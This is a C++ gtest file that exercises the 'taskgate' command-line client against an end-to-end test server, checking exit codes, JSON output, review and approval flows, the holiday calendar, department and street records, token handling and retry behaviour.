// The `taskgate` CLI run as a separate process against the real server of
// the e2e fixture (exit codes, messages, JSON output, pagination, the
// inspector's export, proofs and statistics), `audit verify` with no server
// at all, and the client library's option resolution and UNAVAILABLE
// retries. One piece: every test shares the one fixture that starts the
// server and runs the binary, and the tests read as one tour of the CLI.
#include <sys/wait.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <absl/strings/ascii.h>
#include <absl/strings/str_cat.h>
#include <gmock/gmock.h>
#include <grpcpp/grpcpp.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "audit/bundle.h"
#include "audit/checkpoint.h"
#include "audit/encoding.h"
#include "audit/log_verifier.h"
#include "audit/merkle.h"
#include "audit/signing.h"
#include "clients/client.h"
#include "tests/e2e/e2e_fixture.h"

namespace taskgate::clients {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

struct Result {
  int code = -1;
  std::string out;
  std::string err;
};

std::string Quote(const std::string& s) {
  std::string q = "'";
  for (char c : s) {
    if (c == '\'') {
      q += "'\\''";
    } else {
      q += c;
    }
  }
  return q + "'";
}

// Runs the built taskgate with `args`; no environment or config file leaks
// in (HOME and XDG_CONFIG_HOME point to an empty place).
Result RunTaskgate(const std::vector<std::string>& args) {
  const std::string err_path =
      absl::StrCat(::testing::TempDir(), "taskgate-cli-", ::getpid(), ".err");
  std::string command = absl::StrCat(
      "env -u TASKGATE_ADDRESS -u TASKGATE_TOKEN HOME=/nonexistent "
      "XDG_CONFIG_HOME=/nonexistent ",
      TASKGATE_CLI_PATH);
  for (const std::string& a : args) absl::StrAppend(&command, " ", Quote(a));
  absl::StrAppend(&command, " 2>", err_path);
  Result result;
  FILE* pipe = ::popen(command.c_str(), "r");
  if (pipe == nullptr) return result;
  char buffer[4096];
  size_t n;
  while ((n = std::fread(buffer, 1, sizeof(buffer), pipe)) > 0) {
    result.out.append(buffer, n);
  }
  const int status = ::pclose(pipe);
  result.code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  std::ifstream err(err_path);
  std::stringstream text;
  text << err.rdbuf();
  result.err = text.str();
  std::remove(err_path.c_str());
  return result;
}

class CliTest : public e2e::E2eTest {
 protected:
  Result Run(const e2e::Actor& who, std::vector<std::string> args) {
    std::vector<std::string> all = {
        "--address", absl::StrCat("127.0.0.1:", server_->grpc_port()),
        "--token",   who.token,
        "--retries", "0"};
    all.insert(all.end(), args.begin(), args.end());
    return RunTaskgate(all);
  }
};

TEST_F(CliTest, MissingArgumentIsAUsageError) {
  const Result r = Run(clerk_, {"dept", "show"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("TASK is required"));
}

TEST_F(CliTest, UnknownCommandIsAUsageError) {
  const Result r = Run(clerk_, {"dept", "frobnicate"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("A subcommand is required"));
}

TEST_F(CliTest, BadOutputFormatIsAUsageError) {
  const Result r = Run(clerk_, {"dept", "list", "--output", "yaml"});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("--output"));
}

TEST_F(CliTest, HelpShowsAnExample) {
  const Result r = RunTaskgate({"review", "approve", "--help"});
  EXPECT_EQ(r.code, 0);
  EXPECT_THAT(r.out, HasSubstr("Example:\n  taskgate review approve"));
}

TEST_F(CliTest, ShowAsJsonHasTheTaskFields) {
  ASSERT_OK_AND_ASSIGN(v1::Task created,
                       CreateTask(clerk_, CleanAssistSpec(), "t-json"));
  const Result r = Run(clerk_, {"dept", "show", "t-json", "--output", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  const nlohmann::json j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["id"], "t-json");
  EXPECT_EQ(j["state"], "TASK_STATE_DRAFT");
  EXPECT_EQ(j["department_id"], "civil-affairs");
  EXPECT_EQ(j["spec"]["item_code"], "A-001");
  EXPECT_EQ(j["etag"], created.etag());
}

TEST_F(CliTest, CreateFromTomlFileThenSubmitShowsFindings) {
  const std::string path = TestPath(".toml");
  {
    std::ofstream file(path);
    file << "title = \"Elderly visits\"\nitem_code = \"A-001\"\n"
            "start_date = \"2026-06-01\"\nend_date = \"2026-06-02\"\n"
            "target_communities = [\"c1\"]\nhours_per_community_month = 2\n"
            "department_duties = \"lists\"\ncommunity_duties = \"visits\"\n"
            "types = [\"signboard\"]\n";
  }
  const Result r = Run(clerk_, {"dept", "create", "--file", path, "--id",
                                "t-toml", "--submit", "--output", "json"});
  std::remove(path.c_str());
  ASSERT_EQ(r.code, 0) << r.err;
  const nlohmann::json j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["state"], "TASK_STATE_SUBMITTED");
  EXPECT_EQ(j["spec"]["types"], nlohmann::json::array({"TASK_TYPE_SIGNBOARD"}));
  std::vector<std::string> rules;
  for (const auto& f : j["findings"]) rules.push_back(f["rule_id"]);
  // No legal basis, no funding, a signboard without justification.
  EXPECT_THAT(rules, ::testing::UnorderedElementsAre(
                         "R-LEGAL-BASIS", "R-FUNDING", "R-CONTROLLED"));
}

// SPEC §4.1: the structured data of the findings, under the findings of
// `dept show` for people and as the API has it in JSON.
TEST_F(CliTest, ShowPrintsTheNumbersOfEachFinding) {
  v1::TaskSpec spec = CleanAssistSpec();
  spec.set_start_date("2026-03-20");  // submitted 2026-03-02: 18 days
  spec.set_end_date("2026-04-30");
  spec.set_hours_per_community_month(90);  // c1: 20 h baseline
  spec.add_types(v1::TASK_TYPE_SIGNBOARD);
  spec.set_signboards_per_community(1);
  ASSERT_OK_AND_ASSIGN(v1::Task draft, CreateTask(clerk_, spec, "t-data"));
  ASSERT_THAT(Act(clerk_, e2e::Step::kSubmit, "t-data"), testing::IsOk());

  const Result shown = Run(clerk_, {"dept", "show", "t-data"});
  ASSERT_EQ(shown.code, 0) << shown.err;
  EXPECT_THAT(shown.out, HasSubstr("finding data (数据):"));
  EXPECT_THAT(shown.out, HasSubstr("c1 2026-03..2026-04"));
  EXPECT_THAT(shown.out,
              HasSubstr("load 20 h + this task 90 h = 110 h > capacity 100 h"));
  EXPECT_THAT(shown.out, HasSubstr("18 days, 30 required"));
  EXPECT_THAT(shown.out, HasSubstr("types without justification (缺少理由)"));
  EXPECT_THAT(shown.out,
              HasSubstr("baseline 0 + in force 0 + this task 1 = 1 > limit 0"));

  const Result json =
      Run(clerk_, {"dept", "show", "t-data", "--output", "json"});
  ASSERT_EQ(json.code, 0) << json.err;
  const nlohmann::json j = nlohmann::json::parse(json.out);
  bool capacity = false;
  for (const auto& f : j["findings"]) {
    if (f["rule_id"] != "R-CAPACITY") continue;
    capacity = true;
    const auto& excess = f["capacity"]["excesses"][0];
    EXPECT_EQ(excess["community_id"], "c1");
    EXPECT_EQ(excess["first_month"], "2026-03");
    EXPECT_EQ(excess["last_month"], "2026-04");
    EXPECT_EQ(excess["load_hours"], 20);
    EXPECT_EQ(excess["capacity_hours"], 100);
  }
  EXPECT_TRUE(capacity) << json.out;
}

// SPEC §4.1 "Two approvals": the queue's --awaiting-second-approval, the
// mark in its table and in `review show`.
TEST_F(CliTest, ReviewQueueListsTasksAwaitingTheSecondApproval) {
  v1::TaskSpec spec = CleanAssistSpec();
  spec.set_item_code("");
  spec.set_new_item_justification("not on any list yet");
  const std::string two = SubmittedTask(spec, &reviewer_);
  const std::string one = SubmittedTask(CleanAssistSpec());
  ASSERT_THAT(Act(reviewer_, e2e::Step::kApprove, two, "",
                  {{"R-NEW-ITEM", "needed this year"}}),
              testing::IsOk());

  const Result awaiting =
      Run(reviewer2_,
          {"review", "queue", "--awaiting-second-approval", "-o", "name"});
  ASSERT_EQ(awaiting.code, 0) << awaiting.err;
  EXPECT_EQ(awaiting.out, two + "\n");
  const Result others =
      Run(reviewer2_, {"review", "queue", "--filter",
                       "awaiting_second_approval=false", "-o", "name"});
  ASSERT_EQ(others.code, 0) << others.err;
  EXPECT_EQ(others.out, one + "\n");
  const Result table = Run(reviewer2_, {"review", "queue"});
  ASSERT_EQ(table.code, 0) << table.err;
  EXPECT_THAT(table.out, HasSubstr("SUBMITTED (awaiting 2nd approval)"));
  const Result shown = Run(reviewer2_, {"review", "show", two});
  ASSERT_EQ(shown.code, 0) << shown.err;
  EXPECT_THAT(shown.out,
              HasSubstr("awaiting: the second approval (待二次审批)"));

  const Result bad = Run(reviewer2_, {"review", "queue", "--filter",
                                      "awaiting_second_approval=maybe"});
  EXPECT_EQ(bad.code, 7) << bad.err;
  EXPECT_THAT(bad.err, HasSubstr("filter"));
}

TEST_F(CliTest, NotFoundExitsThree) {
  // A reviewer reads every task, so hears that one is missing; a clerk
  // hears of a missing task what it hears of another department's
  // (PERMISSION_DENIED: issue 15, defect 13).
  const Result r = Run(reviewer_, {"review", "show", "no-such-task"});
  EXPECT_EQ(r.code, 3);
  EXPECT_THAT(r.err, HasSubstr("error: NOT_FOUND"));
  EXPECT_THAT(r.err, HasSubstr("hint: "));
  EXPECT_EQ(Run(clerk_, {"dept", "show", "no-such-task"}).code, 4);
}

TEST_F(CliTest, PermissionDeniedExitsFour) {
  const Result r = Run(auditor_, {"dept", "create", "--title", "x"});
  EXPECT_EQ(r.code, 4);
  EXPECT_THAT(r.err, HasSubstr("error: PERMISSION_DENIED"));
}

TEST_F(CliTest, MissingTokenExitsFour) {
  const Result r = Run(e2e::Actor{"nobody", ""}, {"dept", "list"});
  EXPECT_EQ(r.code, 4);
  EXPECT_THAT(r.err, HasSubstr("error: UNAUTHENTICATED"));
}

// A token on the command line is readable by every local user (ps): the
// file and the environment are the ways --help recommends (issue 15).
TEST_F(CliTest, TokenFromAFileAuthenticatesAndHelpPrefersIt) {
  const std::string path =
      absl::StrCat(::testing::TempDir(), "taskgate-cli-token-", ::getpid());
  std::ofstream(path, std::ios::trunc) << clerk_.token << "\n";
  const std::string address = absl::StrCat("127.0.0.1:", server_->grpc_port());
  const Result r = RunTaskgate({"--address", address, "--token-file", path,
                                "--retries", "0", "dept", "list"});
  EXPECT_EQ(r.code, 0) << r.err;

  // One source of the token on the command line, not two.
  const Result both = RunTaskgate({"--address", address, "--token-file", path,
                                   "--token", clerk_.token, "dept", "list"});
  EXPECT_EQ(both.code, 2);
  EXPECT_THAT(both.err, HasSubstr("excludes"));
  std::remove(path.c_str());

  const Result missing = RunTaskgate({"--address", address, "--token-file",
                                      path, "--retries", "0", "dept", "list"});
  EXPECT_NE(missing.code, 0);
  EXPECT_THAT(missing.err, HasSubstr(path));

  const Result help = RunTaskgate({"--help"});
  EXPECT_EQ(help.code, 0);
  EXPECT_THAT(help.out, HasSubstr("--token-file"));
  EXPECT_THAT(help.out, HasSubstr("prefer --token-file or TASKGATE_TOKEN"));
  EXPECT_THAT(help.out, HasSubstr("ps"));
}

TEST_F(CliTest, IllegalTransitionExitsFive) {
  ASSERT_OK_AND_ASSIGN(v1::Task created,
                       CreateTask(clerk_, CleanAssistSpec(), "t-draft"));
  const Result r = Run(clerk_, {"dept", "close", "t-draft"});
  EXPECT_EQ(r.code, 5);
  EXPECT_THAT(r.err, HasSubstr("error: FAILED_PRECONDITION"));
}

TEST_F(CliTest, InvalidArgumentExitsSevenAndNamesEachField) {
  const Result r = Run(clerk_, {"dept", "create", "--title", "x", "--start",
                                "someday", "--hours", "-3"});
  EXPECT_EQ(r.code, 7);
  EXPECT_THAT(r.err, HasSubstr("error: INVALID_ARGUMENT"));
  EXPECT_THAT(r.err, HasSubstr("\n  - spec.start_date: "));
  EXPECT_THAT(r.err, HasSubstr("\n  - spec.hours_per_community_month: "));
}

TEST_F(CliTest, ApproveRefusesLocallyWithoutAcknowledgingWarnings) {
  v1::TaskSpec spec = CleanAssistSpec();
  spec.set_item_code("");
  spec.set_new_item_justification("not on any list yet");
  const std::string id = SubmittedTask(spec, &reviewer_);
  const Result r = Run(reviewer_, {"review", "approve", id});
  EXPECT_EQ(r.code, 2);
  EXPECT_THAT(r.err, HasSubstr("R-NEW-ITEM"));
  ASSERT_OK_AND_ASSIGN(v1::Task task, GetTask(auditor_, id));
  EXPECT_EQ(task.state(), v1::TASK_STATE_IN_REVIEW);

  const Result ok =
      Run(reviewer_, {"review", "approve", id, "--ack",
                      "R-NEW-ITEM=needed this year", "-o", "json"});
  ASSERT_EQ(ok.code, 0) << ok.err;
  EXPECT_EQ(nlohmann::json::parse(ok.out)["approvals"].size(), 1u);
}

// An approval re-checks R-CAPACITY (SPEC §4.1): the task shows no finding,
// the server names the new one, and the CLI takes an --ack for it.
TEST_F(CliTest, ApproveAcknowledgesAFindingOnlyTheApprovalsRecheckFinds) {
  v1::TaskSpec first = CleanAssistSpec();
  first.set_hours_per_community_month(45);
  v1::TaskSpec second = CleanAssistSpec();
  second.set_hours_per_community_month(45);
  const std::string a = SubmittedTask(first, &reviewer_);
  const std::string b = SubmittedTask(second, &reviewer2_);
  ASSERT_EQ(Run(reviewer_, {"review", "approve", a}).code, 0);

  const Result refused = Run(reviewer2_, {"review", "approve", b});
  EXPECT_EQ(refused.code, 7) << refused.err;
  EXPECT_THAT(refused.err, HasSubstr("R-CAPACITY"));
  const Result ok = Run(reviewer2_, {"review", "approve", b, "--ack",
                                     "R-CAPACITY=the street lends staff"});
  EXPECT_EQ(ok.code, 0) << ok.err;
  ASSERT_OK_AND_ASSIGN(v1::Task task, GetTask(auditor_, b));
  EXPECT_EQ(task.state(), v1::TASK_STATE_ACTIVE);
}

TEST_F(CliTest, ReviewerHandlesAComplaintThroughItsLifecycle) {
  const Result filed =
      Run(community_, {"community", "complain", "--title", "要求社区报送台账",
                       "--description", "未经准入，口头布置", "-o", "name"});
  ASSERT_EQ(filed.code, 0) << filed.err;
  const std::string id(absl::StripAsciiWhitespace(filed.out));

  const Result bad = Run(reviewer_, {"review", "complaint", id, "--state",
                                     "open", "--resolution", "x"});
  EXPECT_EQ(bad.code, 2);
  EXPECT_THAT(bad.err, HasSubstr("--state must be"));

  const Result verified =
      Run(reviewer_, {"review", "complaint", id, "--state", "verified",
                      "--resolution", "属实", "-o", "json"});
  ASSERT_EQ(verified.code, 0) << verified.err;
  EXPECT_EQ(nlohmann::json::parse(verified.out)["state"],
            "COMPLAINT_STATE_VERIFIED");
  // Straight back to VERIFIED is not a move the lifecycle has.
  const Result again = Run(reviewer_, {"review", "complaint", id, "--state",
                                       "verified", "--resolution", "again"});
  EXPECT_EQ(again.code, 5) << again.err;
  const Result resolved =
      Run(reviewer_, {"review", "complaint", id, "--state", "resolved",
                      "--resolution", "已整改"});
  EXPECT_EQ(resolved.code, 0) << resolved.err;
  EXPECT_THAT(resolved.out, HasSubstr("RESOLVED"));
}

TEST_F(CliTest, ListFollowsPagesUpToTheLimit) {
  for (const char* id : {"t-a", "t-b", "t-c", "t-d", "t-e"}) {
    ASSERT_OK_AND_ASSIGN(v1::Task t, CreateTask(clerk_, CleanAssistSpec(), id));
  }
  const Result r = Run(clerk_, {"dept", "list", "--page-size", "2", "--limit",
                                "3", "--output", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  const nlohmann::json listed = nlohmann::json::parse(r.out);
  std::vector<std::string> ids;
  for (const auto& t : listed["items"]) {
    ids.push_back(t["id"]);
  }
  EXPECT_THAT(ids, ElementsAre("t-a", "t-b", "t-c"));

  const Result all =
      Run(clerk_, {"dept", "list", "--page-size", "2", "--output", "name"});
  ASSERT_EQ(all.code, 0) << all.err;
  EXPECT_EQ(all.out, "t-a\nt-b\nt-c\nt-d\nt-e\n");
}

// The public list (公示) needs no token: a resident's machine has none.
TEST_F(CliTest, PublicListNeedsNoTokenAndMarksProvisionalTasks) {
  const std::string active = ActiveTask();
  v1::TaskSpec emergency = CleanAssistSpec();
  emergency.set_title("防汛值守");
  emergency.set_emergency(true);
  emergency.set_emergency_reason("flood season");
  ASSERT_OK_AND_ASSIGN(v1::Task created,
                       CreateTask(clerk_, emergency, "t-flood"));
  ASSERT_OK_AND_ASSIGN(v1::Task provisional,
                       Act(clerk_, e2e::Step::kSubmit, created.id()));
  ASSERT_EQ(provisional.state(), v1::TASK_STATE_PROVISIONAL);
  const e2e::Actor resident{"resident", ""};

  const Result table = Run(resident, {"public", "tasks", "--community", "c1"});
  ASSERT_EQ(table.code, 0) << table.err;
  EXPECT_THAT(table.out, HasSubstr("community: c1 Community c1 (east)"));
  EXPECT_THAT(table.out, HasSubstr(active));
  EXPECT_THAT(table.out, HasSubstr("t-flood *"));
  EXPECT_THAT(table.out, HasSubstr("防汛值守"));
  EXPECT_THAT(table.out, HasSubstr("3000 yuan (district civil affairs"));

  const Result json = Run(
      resident, {"public", "tasks", "--community", "c1", "--output", "json"});
  ASSERT_EQ(json.code, 0) << json.err;
  const nlohmann::json doc = nlohmann::json::parse(json.out);
  EXPECT_EQ(doc["community"]["street"], "east");
  ASSERT_EQ(doc["items"].size(), 2u);
  EXPECT_EQ(doc["items"][1]["id"], "t-flood");
  EXPECT_EQ(doc["items"][1]["provisional"], true);
  EXPECT_EQ(doc["items"][1]["department_id"], "civil-affairs");

  const Result names =
      Run(resident, {"public", "communities", "--output", "name"});
  ASSERT_EQ(names.code, 0) << names.err;
  EXPECT_EQ(names.out, "c1\nc2\nc3\n");
  const Result limited =
      Run(resident, {"public", "communities", "--page-size", "1", "--limit",
                     "2", "--output", "name"});
  EXPECT_EQ(limited.out, "c1\nc2\n");

  const Result unknown =
      Run(resident, {"public", "tasks", "--community", "c9"});
  EXPECT_EQ(unknown.code, 3);
  EXPECT_THAT(unknown.err, HasSubstr("taskgate public communities"));
  const Result help = RunTaskgate({"public", "tasks", "--help"});
  EXPECT_EQ(help.code, 0);
  EXPECT_THAT(help.out,
              HasSubstr("Example:\n  taskgate public tasks --community"));
}

// The working-day calendar: the admin publishes a year with day ranges
// from the flags and a file; every role shows it, day runs with their kind.
TEST_F(CliTest, CalendarIsPublishedWithRangesAndShownToEveryRole) {
  const std::string path = TestPath(".toml");
  {
    std::ofstream file(path);
    file << "year = 2026\nnote = \"国务院办公厅通知\"\n"
            "holidays = [\"2026-01-01..2026-01-03\", \"2026-04-04\"]\n"
            "makeup_workdays = [2026-01-04]\n";  // a TOML date
  }
  const Result published =
      Run(admin_, {"admin", "calendar", "publish", "--file", path, "--holiday",
                   "2026-02-15..2026-02-23", "--workday", "2026-02-14",
                   "--workday", "2026-02-28", "--output", "json"});
  std::remove(path.c_str());
  ASSERT_EQ(published.code, 0) << published.err;
  const nlohmann::json j = nlohmann::json::parse(published.out);
  EXPECT_EQ(j["year"], 2026);
  EXPECT_EQ(j["version"], "1");          // int64 in protobuf JSON
  EXPECT_EQ(j["holidays"].size(), 13u);  // 3 + 1 + 9
  EXPECT_EQ(j["makeup_workdays"],
            nlohmann::json::array({"2026-01-04", "2026-02-14", "2026-02-28"}));

  const Result shown =
      Run(community_, {"admin", "calendar", "show", "--year", "2026"});
  ASSERT_EQ(shown.code, 0) << shown.err;
  EXPECT_THAT(shown.out, HasSubstr("calendar of 2026, version 1"));
  EXPECT_THAT(shown.out, HasSubstr("13 holidays (法定节假日), 3 make-up "
                                   "working days (调休上班日)"));
  EXPECT_THAT(shown.out,
              ::testing::ContainsRegex(
                  "2026-02-15 Sun \\.\\. 2026-02-23 Mon +9 +holiday"));
  EXPECT_THAT(shown.out, HasSubstr("2026-02-14 Sat"));
  EXPECT_THAT(shown.out, HasSubstr("make-up working day 调休上班日"));

  const Result listed =
      Run(clerk_, {"admin", "calendar", "list", "--output", "name"});
  ASSERT_EQ(listed.code, 0) << listed.err;
  EXPECT_EQ(listed.out, "2026\n");

  // Not the clerk's to publish (exit 4); a range backwards is a usage
  // error before any call (exit 2); a make-up Monday is the server's
  // INVALID_ARGUMENT naming the field (exit 7).
  EXPECT_EQ(Run(clerk_, {"admin", "calendar", "publish", "--year", "2026",
                         "--holiday", "2026-10-01"})
                .code,
            4);
  const Result backwards =
      Run(admin_, {"admin", "calendar", "publish", "--year", "2026",
                   "--holiday", "2026-10-07..2026-10-01"});
  EXPECT_EQ(backwards.code, 2);
  EXPECT_THAT(backwards.err, HasSubstr("FIRST..LAST"));
  const Result monday = Run(admin_, {"admin", "calendar", "publish", "--year",
                                     "2026", "--workday", "2026-10-05"});
  EXPECT_EQ(monday.code, 7);
  EXPECT_THAT(monday.err, HasSubstr("makeup_workdays[0]"));
}

// Departments and streets by id (SPEC §1): the admin puts and renames
// them, every role reads them, communities and tasks name streets by id.
TEST_F(CliTest, DepartmentsAndStreetsArePutByIdAndNamedByCommunitiesAndTasks) {
  const Result created =
      Run(admin_, {"admin", "department", "put", "culture", "区文旅局"});
  ASSERT_EQ(created.code, 0) << created.err;
  EXPECT_THAT(created.out, HasSubstr("created department culture (区文旅局)"));
  // Renamed: the etag is read first.
  const Result renamed = Run(admin_, {"admin", "department", "put", "culture",
                                      "区文化和旅游局", "--output", "json"});
  ASSERT_EQ(renamed.code, 0) << renamed.err;
  EXPECT_EQ(nlohmann::json::parse(renamed.out)["name"], "区文化和旅游局");
  const Result got = Run(clerk_, {"admin", "department", "get", "culture"});
  ASSERT_EQ(got.code, 0) << got.err;
  EXPECT_THAT(got.out, ::testing::ContainsRegex("culture +区文化和旅游局"));
  const Result listed =
      Run(community_, {"admin", "department", "list", "--output", "name"});
  ASSERT_EQ(listed.code, 0) << listed.err;
  EXPECT_THAT(listed.out, HasSubstr("culture\n"));
  // Not the clerk's to put (exit 4); a stale etag is ABORTED (exit 5 or
  // what the CLI maps it to, never 0).
  EXPECT_EQ(Run(clerk_, {"admin", "department", "put", "x", "X"}).code, 4);
  EXPECT_NE(Run(admin_, {"admin", "department", "put", "culture", "Y", "--etag",
                         "stale"})
                .code,
            0);

  // A name must be one line of printable text (the server refuses
  // controls, exit 7).
  EXPECT_EQ(
      Run(admin_, {"admin", "street", "put", "north", "北\x1b[2J街道"}).code,
      7);
  ASSERT_EQ(Run(admin_, {"admin", "street", "put", "north", "北苑街道"}).code,
            0);
  const Result streets = Run(clerk_, {"admin", "street", "list"});
  ASSERT_EQ(streets.code, 0) << streets.err;
  EXPECT_THAT(streets.out, ::testing::ContainsRegex("north +北苑街道"));
  EXPECT_THAT(streets.out, HasSubstr("east"));

  const Result community =
      Run(admin_, {"admin", "communities", "put", "--id", "c9", "--name",
                   "北苑社区", "--street-id", "north", "--staff", "4"});
  ASSERT_EQ(community.code, 0) << community.err;
  const Result unknown =
      Run(admin_, {"admin", "communities", "put", "--id", "c10", "--name", "X",
                   "--street-id", "nowhere", "--staff", "4"});
  EXPECT_EQ(unknown.code, 7);
  EXPECT_THAT(unknown.err, HasSubstr("street_id"));
  EXPECT_EQ(Run(admin_, {"admin", "communities", "put", "--id", "c10", "--name",
                         "X", "--staff", "4"})
                .code,
            2);
  const Result in_north =
      Run(admin_, {"admin", "communities", "list", "--street-id", "north",
                   "--output", "name"});
  ASSERT_EQ(in_north.code, 0) << in_north.err;
  EXPECT_EQ(in_north.out, "c9\n");

  // A task targets the street by id and reaches its community.
  const Result task =
      Run(clerk_, {"dept", "create", "--id", "t-street", "--title", "Visits",
                   "--item", "A-001", "--start", "2026-06-01", "--end",
                   "2026-06-02", "--street-id", "north", "--hours", "1",
                   "--submit", "--output", "json"});
  ASSERT_EQ(task.code, 0) << task.err;
  const nlohmann::json j = nlohmann::json::parse(task.out);
  EXPECT_EQ(j["spec"]["target_street_ids"], nlohmann::json::array({"north"}));
  EXPECT_EQ(j["resolved_communities"], nlohmann::json::array({"c9"}));
}

TEST(CliProcessTest, ServerDownExitsSixWithAHint) {
  const Result r =
      RunTaskgate({"--address", "127.0.0.1:1", "--token", "x", "--retries", "0",
                   "--timeout", "5", "dept", "list"});
  EXPECT_EQ(r.code, 6);
  EXPECT_THAT(r.err, HasSubstr("error: UNAVAILABLE"));
  EXPECT_THAT(r.err, HasSubstr("is taskgated running"));
}

// A TaskService whose first CreateTask answers UNAVAILABLE.
class FlakyTasks final : public v1::TaskService::Service {
 public:
  grpc::Status CreateTask(grpc::ServerContext* context,
                          const v1::CreateTaskRequest* request,
                          v1::Task* response) override {
    request_ids.push_back(request->request_id());
    auto auth = context->client_metadata().find("authorization");
    authorization = auth == context->client_metadata().end()
                        ? ""
                        : std::string(auth->second.data(), auth->second.size());
    if (request_ids.size() == 1) {
      return grpc::Status(grpc::StatusCode::UNAVAILABLE, "store busy");
    }
    response->set_id("t-1");
    return grpc::Status::OK;
  }
  std::vector<std::string> request_ids;
  std::string authorization;
};

TEST(ClientTest, RetriesUnavailableWithTheSameRequestId) {
  FlakyTasks service;
  grpc::ServerBuilder builder;
  builder.RegisterService(&service);
  std::unique_ptr<grpc::Server> server = builder.BuildAndStart();
  ClientOptions options;
  options.token = "secret";
  options.max_retries = 2;
  Client client(options, server->InProcessChannel(grpc::ChannelArguments()));
  std::vector<absl::Duration> sleeps;
  client.set_sleeper([&](absl::Duration d) { sleeps.push_back(d); });

  v1::CreateTaskRequest request;
  request.set_request_id(NewRequestId());
  v1::Task task;
  grpc::Status status = client.Call(
      client.tasks(), &v1::TaskService::Stub::CreateTask, request, &task);

  EXPECT_TRUE(status.ok()) << status.error_message();
  EXPECT_EQ(task.id(), "t-1");
  EXPECT_THAT(service.request_ids,
              ElementsAre(request.request_id(), request.request_id()));
  EXPECT_THAT(sleeps, ElementsAre(absl::Milliseconds(100)));
  EXPECT_EQ(service.authorization, "Bearer secret");
  server->Shutdown();
}

TEST(ClientTest, GivesUpAfterMaxRetries) {
  FlakyTasks service;
  grpc::ServerBuilder builder;
  builder.RegisterService(&service);
  std::unique_ptr<grpc::Server> server = builder.BuildAndStart();
  ClientOptions options;
  options.max_retries = 0;
  Client client(options, server->InProcessChannel(grpc::ChannelArguments()));
  client.set_sleeper([](absl::Duration) { FAIL() << "must not sleep"; });
  v1::CreateTaskRequest request;
  v1::Task task;
  grpc::Status status = client.Call(
      client.tasks(), &v1::TaskService::Stub::CreateTask, request, &task);
  EXPECT_EQ(status.error_code(), grpc::StatusCode::UNAVAILABLE);
  EXPECT_EQ(service.request_ids.size(), 1u);
  server->Shutdown();
}

TEST(ClientTest, BackoffDoublesUpToTwoSeconds) {
  EXPECT_EQ(RetryBackoff(1), absl::Milliseconds(100));
  EXPECT_EQ(RetryBackoff(2), absl::Milliseconds(200));
  EXPECT_EQ(RetryBackoff(5), absl::Milliseconds(1600));
  EXPECT_EQ(RetryBackoff(6), absl::Seconds(2));
  EXPECT_EQ(RetryBackoff(30), absl::Seconds(2));
}

TEST(ClientTest, RequestIdsAreFreshHex) {
  const std::string a = NewRequestId();
  EXPECT_EQ(a.size(), 32u);
  EXPECT_EQ(a.find_first_not_of("0123456789abcdef"), std::string::npos);
  EXPECT_NE(a, NewRequestId());
}

TEST(ClientTest, OptionsComeFromFlagsThenEnvironmentThenFile) {
  const std::string dir =
      absl::StrCat(::testing::TempDir(), "taskgate-opts-", ::getpid());
  std::filesystem::create_directories(dir);
  {
    std::ofstream(dir + "/token") << "file-secret\n";
    std::ofstream(dir + "/config.toml")
        << "address = \"file:1\"\ntoken_file = \"" << dir << "/token\"\n";
  }
  std::map<std::string, std::string> env;
  OptionSources sources;
  sources.config_file = dir + "/config.toml";
  sources.getenv = [&env](const char* name) -> const char* {
    auto it = env.find(name);
    return it == env.end() ? nullptr : it->second.c_str();
  };

  ASSERT_OK_AND_ASSIGN(ClientOptions from_file, ResolveOptions(sources));
  EXPECT_EQ(from_file.address, "file:1");
  EXPECT_EQ(from_file.token, "file-secret");

  env["TASKGATE_ADDRESS"] = "env:2";
  env["TASKGATE_TOKEN"] = "env-secret";
  ASSERT_OK_AND_ASSIGN(ClientOptions from_env, ResolveOptions(sources));
  EXPECT_EQ(from_env.address, "env:2");
  EXPECT_EQ(from_env.token, "env-secret");

  sources.address_flag = "flag:3";
  sources.token_flag = "flag-secret";
  ASSERT_OK_AND_ASSIGN(ClientOptions from_flags, ResolveOptions(sources));
  EXPECT_EQ(from_flags.address, "flag:3");
  EXPECT_EQ(from_flags.token, "flag-secret");

  // A token file given as a flag comes before the environment; its newline
  // is not part of the secret.
  sources.token_flag.clear();
  sources.token_file_flag = dir + "/token";
  ASSERT_OK_AND_ASSIGN(ClientOptions from_file_flag, ResolveOptions(sources));
  EXPECT_EQ(from_file_flag.token, "file-secret");
  std::ofstream(dir + "/empty") << "\n";
  sources.token_file_flag = dir + "/empty";
  EXPECT_THAT(ResolveOptions(sources),
              testing::StatusIs(absl::StatusCode::kInvalidArgument,
                                HasSubstr("is empty")));
  sources.token_file_flag = dir + "/absent";
  EXPECT_THAT(ResolveOptions(sources),
              testing::StatusIs(absl::StatusCode::kInvalidArgument,
                                HasSubstr(dir + "/absent")));
  sources.token_file_flag.clear();

  sources.config_file = dir + "/missing.toml";
  sources.address_flag.clear();
  env.clear();
  EXPECT_THAT(ResolveOptions(sources),
              testing::StatusIs(absl::StatusCode::kInvalidArgument));
  std::filesystem::remove_all(dir);
}

TEST(ClientTest, FormatErrorListsFieldViolationsAndAHint) {
  google::rpc::BadRequest bad;
  auto* v = bad.add_field_violations();
  v->set_field("spec.title");
  v->set_description("must not be empty");
  google::rpc::Status details;
  details.set_code(3);
  details.add_details()->PackFrom(bad);
  const grpc::Status status(grpc::StatusCode::INVALID_ARGUMENT, "bad task",
                            details.SerializeAsString());
  EXPECT_EQ(FormatError(status),
            "error: INVALID_ARGUMENT: bad task\n"
            "  - spec.title: must not be empty\n"
            "hint: fix the fields named above and run the command again\n");
  EXPECT_EQ(ExitCodeFor(status.error_code()), 7);
  EXPECT_EQ(ExitCodeFor(grpc::StatusCode::ABORTED), 5);
  EXPECT_EQ(ExitCodeFor(grpc::StatusCode::DEADLINE_EXCEEDED), 6);
  EXPECT_EQ(ExitCodeFor(grpc::StatusCode::INTERNAL), 1);
}

// ---------------------------------------------------------------- audit

